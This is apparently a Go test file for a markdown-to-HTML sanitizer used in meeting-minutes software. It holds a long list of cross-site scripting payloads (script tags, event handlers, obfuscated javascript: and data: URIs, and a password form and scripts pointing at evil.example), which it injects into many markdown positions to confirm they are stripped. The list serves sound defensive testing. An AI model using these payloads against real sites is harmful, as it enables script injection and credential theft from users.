package markdown_test

import (
	"errors"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"simpul/hooks/markdown"

	"simpul/hooks/testkit/check"
)

func TestHTML_Minutes_Rendered(t *testing.T) {
	const rel = ` rel="nofollow noreferrer"`
	cases := map[string]struct{ source, want string }{
		"nothing":    {"", ""},
		"paragraphs": {"Satu.\n\nDua.", "<p>Satu.</p>\n<p>Dua.</p>\n"},
		"line ends":  {"Satu.\nDua.\r\nTiga.", "<p>Satu.<br>\nDua.<br>\nTiga.</p>\n"},
		"emphasis": {
			"**tebal** _miring_ ~~coret~~ `kode`",
			"<p><strong>tebal</strong> <em>miring</em> <del>coret</del> <code>kode</code></p>\n",
		},
		"lists":       {"- a\n- b\n\n3. c\n4. d", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<ol start=\"3\">\n<li>c</li>\n<li>d</li>\n</ol>\n"},
		"a quote":     {"> kata mereka", "<blockquote>\n<p>kata mereka</p>\n</blockquote>\n"},
		"a rule":      {"a\n\n- - - - - - - - - - - - - - - - - - - - -\n\nb", "<p>a</p>\n<hr>\n<p>b</p>\n"},
		"code":        {"```go\na < b\n```", "<pre><code>a &lt; b\n</code></pre>\n"},
		"a link":      {"[situs](https://kemensos.go.id/a?b=1&c=2)", `<p><a href="https://kemensos.go.id/a?b=1&amp;c=2"` + rel + ">situs</a></p>\n"},
		"bare links":  {"https://a.id dan www.b.id", `<p><a href="https://a.id"` + rel + `>https://a.id</a> dan <a href="http://www.b.id"` + rel + ">www.b.id</a></p>\n"},
		"an address":  {"tulis ke dinas@kota.go.id", `<p>tulis ke <a href="mailto:dinas@kota.go.id"` + rel + ">dinas@kota.go.id</a></p>\n"},
		"a telephone": {"[telepon](tel:+62243510000)", `<p><a href="tel:+62243510000"` + rel + ">telepon</a></p>\n"},
		"own pages":   {"[tugas](/tasks/1)", "<p>tugas</p>\n"},
		"naughty but harmless characters": {
			"Ω≈ç√ 田中さん 👩‍👩‍👧 \u202eabc\u202c e\u0301",
			"<p>Ω≈ç√ 田中さん 👩‍👩‍👧 \u202eabc\u202c e\u0301</p>\n",
		},
		"broken UTF-8": {"a\xffb", "<p>a\uFFFDb</p>\n"},
	}
	for name, c := range cases {
		got, err := markdown.HTML(c.source)
		check.That(t, err == nil && got == c.want, "%s: HTML(%q) = %q, %v, want %q", name, c.source, got, err, c.want)
		if found := faults(got); len(found) > 0 {
			t.Errorf("%s: %v", name, found)
		}
	}
}

func TestHTML_TaskList_DisabledAndNamed(t *testing.T) {
	got, err := markdown.HTML("- [ ] belum\n- [x] sudah\n")
	want := "<ul>\n" +
		"<li><input type=\"checkbox\" disabled=\"\" aria-label=\"☐\"> belum</li>\n" +
		"<li><input type=\"checkbox\" disabled=\"\" checked=\"\" aria-label=\"✓\"> sudah</li>\n</ul>\n"
	check.That(t, err == nil && got == want, "HTML = %q, %v, want %q", got, err, want)
}

func TestHTML_Tables_AlignedWithoutStyles(t *testing.T) {
	got, err := markdown.HTML("| a | b |\n|:-:|--:|\n| 1 | 2 |\n")
	want := `<th align="center">a</th> <th align="right">b</th> <td align="center">1</td> <td align="right">2</td>`
	for cell := range strings.SplitSeq(want, "> <") {
		if cell = strings.Trim(cell, "<>"); err != nil || !strings.Contains(got, cell) {
			t.Errorf("the table lacks %q: %s, %v", cell, got, err)
		}
	}
}

func TestHTML_Headings_BelowH1WithoutGap(t *testing.T) {
	cases := map[string][]string{
		"# a\n\n## b\n\n### c\n\n# d":         {"<h3>a", "<h4>b", "<h5>c", "<h3>d"},
		"### a\n\n###### b\n\n## c":           {"<h3>a", "<h4>b", "<h4>c"},
		"# a\n\n## b\n\n### c\n\n#### d":      {"<h3>a", "<h4>b", "<h5>c", "<h6>d"},
		"# a\n## b\n### c\n#### d\n###### e":  {"<h3>a", "<h4>b", "<h5>c", "<h6>d", "<h6>e"},
		"Kesimpulan\n==========\n\nLain\n---": {"<h3>Kesimpulan", "<h4>Lain"},
	}
	for source, want := range cases {
		got, err := markdown.HTML(source)
		for _, heading := range want {
			check.That(t, err == nil && strings.Contains(got, heading), "HTML(%q) = %q, %v, want %s in it", source, got, err, heading)
		}
	}
}

func TestHTML_Images_BecomeLinks(t *testing.T) {
	const rel = ` rel="nofollow noreferrer"`
	cases := map[string]string{
		"![foto rapat](https://a.id/f.jpg)":                `<p><a href="https://a.id/f.jpg"` + rel + ">foto rapat</a></p>\n",
		"![](https://a.id/f.jpg)":                          `<p><a href="https://a.id/f.jpg"` + rel + ">https://a.id/f.jpg</a></p>\n",
		"[![foto](https://a.id/f.jpg)](https://b.id)":      `<p><a href="https://b.id"` + rel + ">foto</a></p>\n",
		"![lihat [ini](https://b.id)](https://a.id/f.jpg)": `<p>lihat <a href="https://b.id"` + rel + ">ini</a></p>\n",
		"[](https://a.id)":                                 `<p><a href="https://a.id"` + rel + ">https://a.id</a></p>\n",
		"![foto](foto.jpg)":                                "<p>foto</p>\n",
	}
	for source, want := range cases {
		if got, err := markdown.HTML(source); err != nil || got != want {
			t.Errorf("HTML(%q) = %q, %v, want %q", source, got, err, want)
		}
	}
}

func TestHTML_TooLong_Refused(t *testing.T) {
	// Characters count, not bytes: each of these takes three bytes.
	if got, err := markdown.HTML(strings.Repeat("ꦱ", markdown.MaxLength)); err != nil || !strings.HasPrefix(got, "<p>ꦱ") {
		t.Errorf("a text of exactly the greatest length: %.40q, %v", got, err)
	}
	if got, err := markdown.HTML(strings.Repeat("a", markdown.MaxLength+1)); !errors.Is(err, markdown.ErrTooLong) || got != "" {
		t.Errorf("one character more: %.40q, %v, want ErrTooLong", got, err)
	}
	// A browser sends line ends as two characters; they count as one, as the person typed them.
	if _, err := markdown.HTML(strings.Repeat("a\r\n", markdown.MaxLength/2)); err != nil {
		t.Errorf("line ends of two characters: %v", err)
	}
}

// hostile are ways to smuggle a script, a form, a foreign image or a deceiving link into minutes.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script`,
	`<img src=x onerror=alert(1)>`,
	`<img/src="x"/onerror=alert(1)//`,
	`<image href=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><script href="data:,alert(1)"/></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="//evil.example/x.swf">`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href="//evil.example/x.css">`,
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<style>@import '//evil.example/x.css';</style>`,
	`<div style="position:fixed;inset:0;background:url(//evil.example/p.gif)">x</div>`,
	`<p id="content" name="content" class="button">x</p>`,
	`<form action="https://evil.example/"><input name=password><button>Masuk</button></form>`,
	`<input type="text" autofocus onfocus=alert(1)>`,
	`<input type="checkbox" onclick=alert(1) aria-label="Setuju">`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<body onload=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="https://ok.example" onmouseover=alert(1) target=_blank>x</a>`,
	`<a href="https://ok.example" style="position:fixed;inset:0">x</a>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<title></title><script>alert(1)</script>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<!--><script>alert(1)</script>-->`,
	`<!-- --!><script>alert(1)</script>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`</p></div></main><script>alert(1)</script>`,
	`"><script>alert(1)</script>`,
	`'onmouseover='alert(1)`,
	`" onmouseover="alert(1)" x="`,
	"` onmouseover=alert(1) `",
	`javascript:alert(1)`,
	`JaVaScRiPt:alert(1)`,
	` javascript:alert(1)`,
	"java\tscript:alert(1)",
	"java\nscript:alert(1)",
	"\x01javascript:alert(1)",
	`javascript&colon;alert(1)`,
	`&#106;avascript:alert(1)`,
	`&#x6A;&#x61;vascript:alert(1)`,
	`javascript://ok.example/%0Aalert(1)`,
	`vbscript:msgbox(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`,
	`file:///etc/passwd`,
	`blob:https://ok.example/1`,
	`intent://scan/#Intent;scheme=zxing;end`,
	`feed:javascript:alert(1)`,
	`view-source:javascript:alert(1)`,
	`//evil.example/x`,
	`/\evil.example/x`,
	`\\evil.example\x`,
	`https://kemensos.go.id@evil.example/`,
	`https:evil.example`,
	`http:///evil.example`,
	`https://[::1`,
	`%6A%61vascript:alert(1)`,
	"\x00<script>alert(1)</script>",
	"<\x00script>alert(1)</script>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"\xff\xfe<script>alert(1)</script>",
	`＜script＞alert(1)＜/script＞`,
	`{{.}}{{template "layout"}}`,
	`[x]: javascript:alert(1)`,
	`[x](javascript:alert(1))`,
	`[x](<javascript:alert(1)> "onclick")`,
	`[x](https://ok.example "\" onmouseover=\"alert(1)")`,
	`![x](https://evil.example/pixel.gif)`,
	`![x"onerror=alert(1)](x)`,
	`<javascript:alert(1)>`,
	`<data:text/html,x>`,
}

// places are where in a text a payload may stand.
var places = map[string]string{
	"alone":                 "%s",
	"in a paragraph":        "Rapat dibuka. %s Selesai.",
	"as a link address":     "[notulen](%s)",
	"as a bracketed link":   "[notulen](<%s>)",
	"as a link title":       "[notulen](https://ok.example \"%s\")",
	"as link words":         "[%s](https://ok.example)",
	"as an image":           "![foto](%s)",
	"as image words":        "![%s](https://ok.example/a.png)",
	"as a reference":        "[notulen][r]\n\n[r]: %s\n",
	"as an automatic link":  "<%s>",
	"after www":             "www.ok.example/%s",
	"in a heading":          "## %s",
	"in a list":             "- %s\n- lagi",
	"in a task":             "- [ ] @Dinas Sosial: %s (10/12/2026)",
	"in a quote":            "> %s",
	"in a table":            "| a | b |\n|---|---|\n| %s | 2 |",
	"in a table's heading":  "| %s | b |\n|:-:|---|\n| 1 | 2 |",
	"in code":               "`%s`",
	"in a block of code":    "```%s\n%s\n```",
	"in indented code":      "    %s",
	"in emphasis":           "**%s** _%s_ ~~%s~~",
	"in a block of HTML":    "<div>\n%s\n</div>",
	"behind a backslash":    "\\%s",
	"in an open bracket":    "[%s",
	"in an open tag":        "<a href=\"%s",
	"in an unclosed marker": "**_~~`%s",
}

func TestHTML_HostilePayloads_Removed(t *testing.T) {
	for place, pattern := range places {
		for _, payload := range hostile {
			rendered, err := markdown.HTML(strings.ReplaceAll(pattern, "%s", payload))
			check.That(t, err == nil, "%s, %q: %v", place, payload, err)
			if found := faults(rendered); len(found) > 0 {
				t.Errorf("%s, %q:\n%v\nin %s", place, payload, found, rendered)
			}
		}
	}
}

func TestHostileCheck_KnownPayloads_Detected(t *testing.T) {
	wrong := []string{
		`<script>x</script>`, `<p onclick="x">a</p>`, `<p id="a">a</p>`, `<a href="https://ok.example">x</a>`,
		`<a href="javascript:x" rel="nofollow noreferrer">x</a>`, `<a href="/x" rel="nofollow noreferrer">x</a>`,
		`<a href="https://a@b/" rel="nofollow noreferrer">x</a>`, `<!-- x -->`, `<p>a`, `</p>`, `<p><em>a</p></em>`,
		`<input type="text">`, `<input type="checkbox" aria-label="☐">`, `<h1>x</h1>`, `<img src="x">`,
		`<input type="checkbox" disabled="" checked="" aria-label="☐">`,
	}
	for _, html := range wrong {
		check.That(t, len(faults(html)) != 0, "%s passes as safe", html)
	}
}

func TestHTML_TypedHTML_Escaped(t *testing.T) {
	cases := map[string]string{
		"Rapat <b>penting</b>":     "<p>Rapat &lt;b&gt;penting&lt;/b&gt;</p>\n",
		"<script>x</script>":       "<pre>&lt;script&gt;x&lt;/script&gt;</pre>\n",
		"<div>\n\n**a**\n\n</div>": "<pre>&lt;div&gt;\n</pre>\n<p><strong>a</strong></p>\n<pre>&lt;/div&gt;</pre>\n",
		"1 < 2 & 3 > 2":            "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n",
		"a <!-- b --> c":           "<p>a &lt;!-- b --&gt; c</p>\n",
	}
	for typed, want := range cases {
		if got, err := markdown.HTML(typed); err != nil || got != want {
			t.Errorf("HTML(%q) = %q, %v, want %q", typed, got, err, want)
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, payload := range hostile[:12] {
		f.Add(payload)
	}
	f.Add("- [ ] @Puskesmas Tambakaji: jadwal home visit (10/12/2026)\n\n| a | b |\n|---|:-:|\n| 1 | 2 |")
	f.Add("# a\n\n1. b\n   > c\n\n[d](https://e.f \"g\") ![h](i) <j> `k` www.l.m **n** ~~o~~")
	f.Fuzz(func(t *testing.T, source string) {
		rendered, err := markdown.HTML(source)
		check.That(t, err == nil || rendered == "", "HTML gives %q beside an error", rendered)
		if found := faults(rendered); len(found) > 0 {
			t.Errorf("%v in %s", found, rendered)
		}
		check.That(t, len(rendered) <= markdown.MaxRendered, "%d bytes, more than MaxRendered", len(rendered))
	})
}

// permitted is what may stand on a page, written down once more so that a hole in the policy shows.
var permitted = map[string][]string{
	"p": nil, "br": nil, "hr": nil, "h3": nil, "h4": nil, "h5": nil, "h6": nil, "strong": nil, "em": nil, "del": nil,
	"blockquote": nil, "ul": nil, "li": nil, "pre": nil, "code": nil, "table": nil, "thead": nil, "tbody": nil,
	"tr": nil, "ol": {"start"}, "th": {"align"}, "td": {"align"}, "a": {"href", "rel"},
	"input": {"type", "checked", "disabled", "aria-label"},
}

var void = []string{"br", "hr", "input"}

// faults reads HTML token by token, as no browser would repair it, and lists everything that must not be in it.
func faults(rendered string) []string {
	var found []string
	var open []string
	tokens := html.NewTokenizer(strings.NewReader(rendered))
	for {
		switch tokens.Next() {
		case html.ErrorToken:
			if len(open) > 0 {
				found = append(found, "left open: "+strings.Join(open, " "))
			}
			return found
		case html.CommentToken, html.DoctypeToken:
			found = append(found, "comment or doctype: "+string(tokens.Raw()))
		case html.StartTagToken, html.SelfClosingTagToken:
			token := tokens.Token()
			found = append(found, tagFaults(token)...)
			if !slices.Contains(void, token.Data) {
				open = append(open, token.Data)
			}
		case html.EndTagToken:
			name := tokens.Token().Data
			if len(open) == 0 || open[len(open)-1] != name {
				return append(found, fmt.Sprintf("</%s> closes %v", name, open))
			}
			open = open[:len(open)-1]
		}
	}
}

func tagFaults(token html.Token) []string {
	attributes, known := permitted[token.Data]
	if !known {
		return []string{"element " + token.String()}
	}
	var found []string
	values := map[string]string{}
	for _, attribute := range token.Attr {
		values[attribute.Key] = attribute.Val
		if !slices.Contains(attributes, attribute.Key) {
			found = append(found, "attribute "+token.String())
		}
	}
	switch token.Data {
	case "a":
		if !linkIsPlain(values["href"]) || values["rel"] != "nofollow noreferrer" {
			found = append(found, "link "+token.String())
		}
	case "input":
		_, disabled := values["disabled"]
		_, checked := values["checked"]
		name := map[bool]string{true: "✓", false: "☐"}[checked]
		if values["type"] != "checkbox" || !disabled || values["aria-label"] != name {
			found = append(found, "input "+token.String())
		}
	}
	return found
}

func linkIsPlain(address string) bool {
	parsed, err := url.Parse(address)
	if err != nil || strings.ContainsAny(address, "\x00\t\n\r <>\"") {
		return false
	}
	switch parsed.Scheme {
	case "http", "https":
		return parsed.Host != "" && parsed.User == nil
	case "mailto", "tel":
		return true
	default:
		return false
	}
}
